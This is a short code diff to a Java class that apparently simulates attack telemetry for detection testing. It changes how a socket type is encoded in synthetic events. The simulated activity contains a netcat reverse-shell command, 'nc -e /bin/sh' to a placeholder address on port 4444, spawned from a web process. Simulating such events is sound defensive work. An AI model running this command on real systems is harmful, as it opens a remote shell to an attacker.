@@ -58,7 +58,7 @@ final class Triggers {
             case 4 -> {
                 activities.spawn(webShim, "nc", "/usr/bin/nc", List.of("-e", "/bin/sh", "1.2.3.4", "4444"), 0, "", nc -> {
                     int fd = world.transientFd(nc.pid(), 0);
-                    out.emit(EventType.SOCKET, nc, fd, "fd", fd, "domain", "AF_INET", "type", "SOCK_STREAM", "proto", 0);
+                    out.emit(EventType.SOCKET, nc, fd, "fd", fd, "domain", "AF_INET", "type", 1, "proto", 0);
                     out.emit(EventType.CONNECT, nc, 0, "fd", fd, "tuple", Emitter.tuple(Activities.WEB_IP, 51_234, "1.2.3.4", 4444));
                     out.close(nc.tid(), nc.pid(), fd);
                 });
